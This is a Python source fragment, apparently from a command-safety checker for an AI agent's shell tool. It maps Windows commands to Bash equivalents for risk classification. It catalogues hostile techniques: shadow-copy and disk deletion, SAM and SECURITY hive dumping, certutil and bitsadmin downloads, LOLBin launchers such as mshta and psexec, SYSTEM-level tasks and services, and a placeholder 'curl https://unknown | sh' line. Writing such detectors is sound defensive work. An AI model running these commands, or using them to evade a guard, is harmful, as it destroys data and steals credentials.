            try:
                return "( " + to_bash(code, depth + 1) + " )"
            finally:
                _WHOLE.reset(whole)
        if kind == "stdin":
            return "pwsh"   # (a shell that reads what it is given)
        if kind == "file" and code:
            # (probe round 38, pwsh38) pwsh -File deploy.ps1 ARGS: the script run, as the Bash
            # tool's pwsh -File is (its rules, its text when this line wrote it); still unread
            rest = args[args.index(code) + 1:]
            return " ".join(["pwsh", "-File", shlex.quote(_path(code))] + [shlex.quote(a) for a in rest]) \
                + "; " + UNKNOWN
        return UNKNOWN if kind != "none" else "true"
    if name == "format":
        return DISK_WIPE if any(_DRIVE.match(a) for a in args) else None
    if name == "cipher":
        return DISK_WIPE if any(a.startswith("/w") for a in low) else None
    if name == "diskpart":
        return DISK_WIPE if "/s" in flags or piped else None
    if name == "vssadmin":
        return DISK_WIPE if ("delete" in low and "shadows" in low) or ("resize" in low and "shadowstorage" in low) \
            else None
    if name == "wmic":
        if "shadowcopy" in low and "delete" in low:
            return DISK_WIPE
        if "process" in low and ("delete" in low or "terminate" in low):
            # (probe round 38, pwsh38) wmic process [where FILTER] call terminate / delete: the
            # processes the filter names killed, every one without it (kill -9 -1)
            k = low.index("process")
            if "where" in low[k:k + 2]:
                got = _filter_processes(args[k + 2] if k + 2 < len(args) else "")
                got = got if got != ["*"] else ['"$POWERSHELL_VALUE"']
            else:
                got = ["*"]
            return "kill -9 -1" if got == ["*"] else "kill -9 " + " ".join(
                n if n.startswith('"$') else shlex.quote(n) for n in got)
        if "process" in low and "create" in low:
            k = low.index("create")
            return "( " + cmd_to_bash(" ".join(args[k + 1:]), depth + 1) + " ); " + UNKNOWN
        return None
    if name == "wbadmin":
        return DISK_WIPE if "delete" in low else None
    if name == "bcdedit":
        if flags & {"/delete", "/deletevalue", "/set", "/import", "/create", "/copy", "/default", "/bootsequence",
                    "/displayorder", "/clean"}:
            return "tee -- /boot/BCD < /dev/null"   # (the boot configuration rewritten)
        return None
    if name == "reg":
        verb = low[0] if low else ""
        # (a key with / for \, as a text written through PowerShell's path spelling reaches it)
        key = (args[1] if len(args) > 1 else "").replace("/", "\\")
        if verb in ("delete", "add", "import", "restore", "load", "unload", "copy"):
            if verb in ("import", "restore") or _HIVE_ROOT.match(key) or _CRITICAL_KEY.search(key) \
                    or (verb == "delete" and _HKCU_TOP.match(key)) \
                    or (_win_opt(args, "/v") or "").lower() in _CRITICAL_VALUE:
                # (the hive files the key lives in: a machine's or a user's)
                return "rm -r -f -- /c/Windows/System32/config/SOFTWARE" if not key.lower().startswith(("hkcu", "hkey_current")) \
                    else "rm -f -- ~/NTUSER.DAT"
            data = _win_opt(args, "/d")
            return ("tee -- ~/NTUSER.DAT.registry < /dev/null" if data is None
                    else "tee -- ~/NTUSER.DAT.registry < /dev/null; : " + shlex.quote(data))
        if verb in ("save", "export") and len(args) > 2:
            # (the hive read out into a file: SAM and SECURITY hold the machine's secrets)
            hive = "/c/Windows/System32/config/" + key.rsplit("\\", 1)[-1].upper()
            # (probe round 33, residuals34: SAM, SECURITY, SYSTEM read out is credential dumping,
            # denied in every mode; reg-save-hive stands for it)
            secret = "; reg-save-hive " + shlex.quote(key) if re.match(
                r"(?i)^(?:hklm|hkey_local_machine)[\\/]*(?:sam|security|system)$", key) else ""
            return f"cp -- {shlex.quote(hive)} {p(args[2])}{secret}"   # (SAM, SECURITY, SYSTEM: the password hashes)
        return None
    if name == "setx":
        # (probe round 37, pwsh37) setx NAME VALUE /M: the machine's environment, every user's and
        # service's PATH, written (HKLM\...\Session Manager\Environment), as /etc/environment
        # is on Linux: reg add of that key; without /M the user's own (HKCU\Environment, as
        # ~/.profile), an ask allowed in bypass as before
        if "/m" in flags or "-m" in flags:
            return windows_program(["reg", "add", "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment"]
                                   + (["/v", plain[0]] if plain else []) + (["/d", plain[1]] if len(plain) > 1 else []),
                                   depth)
        return None
    if name == "mklink":
        # (probe round 36, windows36) mklink [/d|/j|/h] LINK TARGET: a link the next command goes
        # through (mklink /j j %USERPROFILE% && del /s /q j\*), as ln -s makes
        if len(plain) != 2:
            return None
        return f"ln -s -- {p(plain[1])} {p(plain[0])}"
    if name == "takeown":
        target = _win_opt(args, "/f")
        if target is None:
            return None
        return ("chown -R user -- " if "/r" in flags else "chown user -- ") + p(target)
    if name in ("icacls", "cacls"):
        if not plain:
            return None
        grants = flags & {"/grant", "/grant:r", "/setowner", "/reset", "/remove", "/deny", "/inheritance:r",
                          "/inheritance:e", "/inheritance:d", "/e", "/g", "/p", "/restore", "/setintegritylevel"}
        if not grants and not any(a.startswith(("/grant", "/inheritance", "/setintegritylevel")) for a in low):
            return "ls -ld -- " + p(plain[0])   # (icacls PATH shows its access list)
        return ("chmod -R 777 -- " if flags & {"/t", "/s"} or name == "cacls" and "/t" in flags else "chmod 777 -- ") \
            + p(plain[0])
    if name == "shutdown":
        return "true" if flags <= {"/a", "/?"} else "shutdown now"
    if name == "certutil" and low[:1] == ["-hashfile"] and 2 <= len(args) <= 3 and not any(
            a.startswith(("-", "/")) for a in args[1:]):
        return "sha256sum -- " + p(args[1])   # ((probe round 45, pwsh45) a file's hash printed)
    if name == "certutil":
        if any(a.lstrip("-/") in ("urlcache", "verifyctl") for a in low) and any(
                re.match(r"(?i)https?://|ftp://", a) for a in args):
            url = next(a for a in args if re.match(r"(?i)https?://|ftp://", a))
            rest = [a for a in plain if a != url]
            return f"curl -fsSL {shlex.quote(url)}" + (f" -o {p(rest[-1])}" if rest else "")
        if any(a.lstrip("-/") in ("decode", "decodehex") for a in low) and len(plain) >= 2:
            return f"base64 -d < {p(plain[0])} > {p(plain[1])}"
        return None
    if name == "bitsadmin" and low[:1] == ["/list"] and flags <= {"/list", "/allusers", "/verbose"}:
        return "true"   # ((probe round 45, pwsh45) the transfer jobs listed)
    if name == "bitsadmin":
        urls = [a for a in args if re.match(r"(?i)https?://|ftp://", a)]
        if urls:
            after = args[args.index(urls[0]) + 1:]
            return f"curl -fsSL {shlex.quote(urls[0])}" + (f" -o {p(after[0])}" if after else "")
        return None
    if name in ("mshta", "regsvr32", "msiexec", "rundll32", "hh", "cmstp"):
        target = " ".join(args)
        if re.search(r"(?i)https?://|ftp://|\\\\", target):
            return "curl -fsSL https://unknown | sh"   # (a script or package fetched and run)
        if name == "mshta" or re.search(r"(?i)javascript:|vbscript:|scrobj", target):
            # (probe round 35, left35) the inline script's own command lines (WScript.Shell's
            # .Run / .Exec, ShellExecute) as cmd.exe runs them; the rest is not read
            vbs = re.search(r"(?i)vbscript:", target) is not None
            runs = script_host_commands(urllib.parse.unquote(target) if "%" in target else target, vbs, depth)
            return (runs + "; " if runs else "") + UNKNOWN
        return None
    if name == "schtasks":
        if low[:1] == ["/query"] and flags <= {"/query", "/fo", "/v", "/nh", "/tn", "/xml", "/hresult"}:
            return "crontab -l"   # ((probe round 45, pwsh45) the tasks listed, on this machine)
        tr = _win_opt(args, "/tr")
        xml = _win_opt(args, "/xml")
        if "/create" in flags and xml is not None:
            # ((probe round 45, pwsh45) the task defined in an XML file: what it runs is not seen here, as
            # crontab FILE's table is not)
            return "crontab -- " + p(xml)
        if "/create" in flags and tr is not None:
            # ((probe round 45, pwsh45) its command read in the line, as echo '... CMD' | crontab - is: a
            # table given on standard input, not an unseen file, which bypass would not run)
            # (run as another account, /ru SYSTEM: another user's table, as crontab -u root - is)
            return "( " + cmd_to_bash(tr, depth + 1) + " ); " + (
                _TABLE_INSTALLED if _win_opt(args, "/ru") is None else "crontab -u root - < /dev/null")
        return None
    if name == "sc":
        if args[:1] and args[0].startswith("\\"):   # (\\host; Bash's unquoted \\host is \host)
            # (probe round 36, residuals38) sc \\host create ... binPath= CMD: the service on
            # another machine runs CMD there, as on this one
            args, low = args[1:], low[1:]
        if low[:1] in (["create"], ["config"]):
            bp = _win_opt([a.rstrip("=") + ("" if not a.endswith("=") else "") for a in args], "binpath")
            if bp is None:
                for k, a in enumerate(low):
                    if a.startswith("binpath=") and (a[8:] or k + 1 < len(args)):
                        bp = args[k][8:] or args[k + 1]
            if bp is not None:
                # (a service runs as LocalSystem unless obj= names another account, and it takes
                # an administrator to install: root's table, as schtasks /ru SYSTEM is)
                return "( " + cmd_to_bash(bp, depth + 1) + " ); crontab -u root - < /dev/null"
        return None
    if name in ("robocopy",):
        if flags & {"/mir", "/purge"} and len(plain) >= 2:
            return f"rm -r -f -- {p(plain[1])}; cp -r -- {p(plain[0])} {p(plain[1])}"
        if len(plain) >= 2:
            return f"cp -r -- {p(plain[0])} {p(plain[1])}"
        return None
    if name == "xcopy" and len(plain) >= 2:
        return f"cp -r -- {p(plain[0])} {p(plain[1])}"
    if name == "winrs":
        # (probe round 36, residuals38) Windows Remote Shell: winrs [-r:HOST] [-u:U -p:P ...]
        # COMMAND runs COMMAND through cmd.exe on the host WinRM reaches, as psexec \\host and
        # ssh's remote command do (each switch is one word, its value after a colon)
        k = 0
        while k < len(args) and args[k][:1] in ("-", "/") and len(args[k]) > 1:
            k += 1
        if k >= len(args):
            return None
        line = " ".join(f'"{x}"' if " " in x and '"' not in x and len(args) - k > 1 else x for x in args[k:])
        return "( " + cmd_to_bash(line, depth + 1) + " )"
    if name in ("pcalua", "scriptrunner", "runas", "psexec", "psexec64", "paexec"):
        # (probe round 35, published9) Windows' launchers (MITRE T1202, LOLBAS): pcalua -a PROG
        # [-c ARGS], scriptrunner -appvscript PROG ARGS, runas [/user:U ...] "CMDLINE", psexec
        # [\\host] [-s -u U ...] PROG ARGS run that command (psexec's on another machine, as
        # ssh's is read)
        words: list[str] = []
        if name == "pcalua":
            prog = _win_opt([a if not a.startswith("-") else "/" + a[1:] for a in args], "/a")
            more = _win_opt([a if not a.startswith("-") else "/" + a[1:] for a in args], "/c")
            words = [prog] + ([more] if more else []) if prog else []
        elif name == "scriptrunner":
            k = next((i for i, a in enumerate(low) if a.lstrip("-/") in ("appvscript", "appvcript")), None)
            words = args[k + 1:] if k is not None else []
        elif name == "runas":
            words = [a for a in args if not a.startswith("/")][-1:]
        else:
            k = 0
            while k < len(args) and (args[k].startswith(("-", "\\")) or args[k].startswith("@")):
                k += 2 if low[k] in ("-u", "-p", "-w", "-n", "-r", "-a", "-g", "-cpu") else 1
            words = args[k:]
        if not words:
            return None
        line = " ".join(f'"{x}"' if " " in x and '"' not in x and len(words) > 1 else x for x in words)
        return "( " + cmd_to_bash(line, depth + 1) + " )"
    if name == "conhost":
        # (probe round 35, published9) conhost.exe [--headless] [--width N ...] CMDLINE starts
        # CMDLINE in a console of its own (a LOLBin that hides the parent): that command
        k = 0
        while k < len(args) and args[k].startswith("--"):
            k += 1 if args[k] in ("--headless", "--") or "=" in args[k] else 2
        if k >= len(args):
            return None
        line = " ".join(f'"{x}"' if " " in x and '"' not in x else x for x in args[k:])
        return "( " + cmd_to_bash(line, depth + 1) + " )"
    if name == "forfiles":
        # (probe round 35, published9) forfiles /p DIR [/s] [/m MASK] /c "cmd /c del @path" runs
        # its command on each file of DIR (of the tree with /s), as find DIR -exec does: the
        # command's @path, @file, @fname and @relpath are the file (find's {} handed to sh -c)
        where = _win_opt(args, "/p") or "."
        command = re.sub(r"(?i)@(?:path|file|fname|relpath)\b", "FORFILE7f3a", _win_opt(args, "/c") or "cmd /c echo @file")
        return _each_file(p(where), _win_opt(args, "/m"), "/s" in flags, cmd_to_bash(command, depth + 1),
                          "FORFILE7f3a", depth)
    if name in ("fsutil",):
        return DISK_WIPE if "deletejournal" in low or ("setzerodata" in low) else None
    return None


# --- pwsh / powershell.exe on a command line --------------------------------------------------

# parameters of pwsh and powershell.exe that take a value, and those that end the options
_VALUE_PARAMS = ("executionpolicy", "windowstyle", "inputformat", "outputformat", "workingdirectory", "version",
                 "configurationname", "custompipename", "settingsfile", "psconsolefile", "ep", "ex", "wd", "w",
                 "configurationfile")
_ENCODED_PARAMS = ("encodedcommand", "e", "ec", "en", "enc", "enco", "encod", "encode", "encoded")


def command_line(args: list[str]) -> tuple[str, str | None]:
    """What ``pwsh ARGS`` runs: ("code", TEXT), ("file", PATH), ("stdin", None),
    ("none", None) for a version or help, or ("unknown", None)."""
    i = 0
    while i < len(args):
        a = args[i]
        if a[:1] in _DASHES and a[:1] != "-":
            a = "-" + a[1:]   # (pwsh's own switches take the dashes its tokenizer does: \u2013c)
        if not a.startswith(("-", "/")) or a in ("-", "/"):
            if a == "-":
                return "stdin", None
            # the first operand is a script file (pwsh) or the command (powershell.exe)
            return ("file", a) if a.lower().endswith(".ps1") else ("code", " ".join(args[i:]))
        key = a.lstrip("-/").split(":", 1)[0].lower()
        if key and "command".startswith(key):
            # (-Command takes the rest of the line; -co is ambiguous, read as code all the same)
            rest = args[i + 1:]
            if rest == ["-"]:
                return "stdin", None
            return "code", " ".join(rest)
        if key in _ENCODED_PARAMS or (len(key) >= 2 and "encodedcommand".startswith(key)):
            if i + 1 >= len(args):
                return "unknown", None
            text = decode_encoded(args[i + 1])
            return ("code", text) if text is not None else ("unknown", None)
        if key in ("f",) or (len(key) >= 1 and "file".startswith(key)):
            return ("file", args[i + 1]) if i + 1 < len(args) else ("unknown", None)
        if key in ("v", "version", "h", "help", "?"):
            return "none", None
        if any(p.startswith(key) for p in _VALUE_PARAMS) and len(key) >= 1 and ":" not in a:
            i += 2
            continue
        if any(p.startswith(key) for p in ("noprofile", "nologo", "noninteractive", "noexit", "mta", "sta",
                                             "interactive", "login", "nop", "noni", "nol")):
            i += 1
            continue
        return "unknown", None
    return "stdin", None
